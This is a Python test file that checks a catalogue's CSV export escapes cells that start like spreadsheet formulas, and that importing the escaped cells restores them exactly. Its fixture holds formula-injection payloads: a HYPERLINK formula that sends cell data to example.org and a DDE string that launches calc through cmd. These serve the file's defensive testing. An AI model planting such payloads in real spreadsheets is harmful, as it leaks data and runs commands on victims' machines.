"""Spreadsheet formula injection (issue #12, item 5): no published or exported CSV cell starts like a formula,
and `catalogus import` reads the neutralised cells back to exactly what was written."""
from __future__ import annotations

import csv
import io
import shutil

import pytest
import yaml

from conftest import MINI
from generator.catalogue import load_catalogue
from generator.cells import neutralise, restore
from generator.diagnostics import Diagnostics
from generator.editors.importer import Defaults, plan_import, write_import
from generator.export import export_files

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "title": "=HYPERLINK(\"http://example.org/?d=\"&B2,\"Klik\")",
    "summary": "+31 6 1234 5678 belt u terug; '=niet uitvoeren'.",
    "funding": "=HYPERLINK(\"http://example.org/?d=\"&B2,\"Klik\")",
    "partners": ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "'=al met apostrof"],
    "notes": "-\tlijst met een tab",
    "description": "\t=1+1 begint met een tab",
    "goals": ["''=twee apostroffen"],
}


@pytest.fixture
def hostile(mini_copy):
    path = mini_copy / "projects" / "minimacontract-achterhoek.yml"
    data = yaml.safe_load(path.read_text(encoding="utf-8"))
    data.update(HOSTILE)
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    diagnostics = Diagnostics()
    catalogue = load_catalogue(mini_copy, diagnostics)
    assert catalogue is not None, diagnostics.render()
    return mini_copy, catalogue


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'=x", "''+x", "'x", "x", "", "'"])
def test_neutralise_then_restore_is_lossless(cell):
    assert restore(neutralise(cell)) == cell
    assert not neutralise(cell).startswith(FORMULA_STARTS)


def test_no_csv_cell_starts_like_a_formula(hostile):
    _, catalogue = hostile
    files = export_files(catalogue)
    csv_names = [name for name in files if name.endswith(".csv")]
    assert "projecten.csv" in csv_names and "velden.csv" in csv_names
    for name in csv_names:
        for record in csv.reader(io.StringIO(files[name], newline="")):
            for cell in record:
                assert not cell.startswith(FORMULA_STARTS), (name, cell)
    rows = list(csv.DictReader(io.StringIO(files["projecten.csv"], newline="")))
    row = next(r for r in rows if r["id"] == "minimacontract-achterhoek")
    assert row["funding"] == "'" + HOSTILE["funding"]
    assert row["summary"] == "'" + HOSTILE["summary"]


def test_import_reads_the_neutralised_csv_back_exactly(hostile, tmp_path):
    content, catalogue = hostile
    folder = tmp_path / "export"
    folder.mkdir()
    (folder / "projecten.csv").write_text(export_files(catalogue)["projecten.csv"], encoding="utf-8")
    again_content = tmp_path / "again" / "content"
    shutil.copytree(MINI, again_content, ignore=shutil.ignore_patterns("projects"))
    (again_content / "projects").mkdir()
    plan = plan_import(folder / "projecten.csv", again_content, Defaults())
    assert not plan.problems, plan.problems
    write_import(plan, again_content)
    diagnostics = Diagnostics()
    again = load_catalogue(again_content, diagnostics)
    assert again is not None, diagnostics.render()
    for pid, entry in catalogue.projects.items():
        assert again.projects[pid].item == entry.item, pid
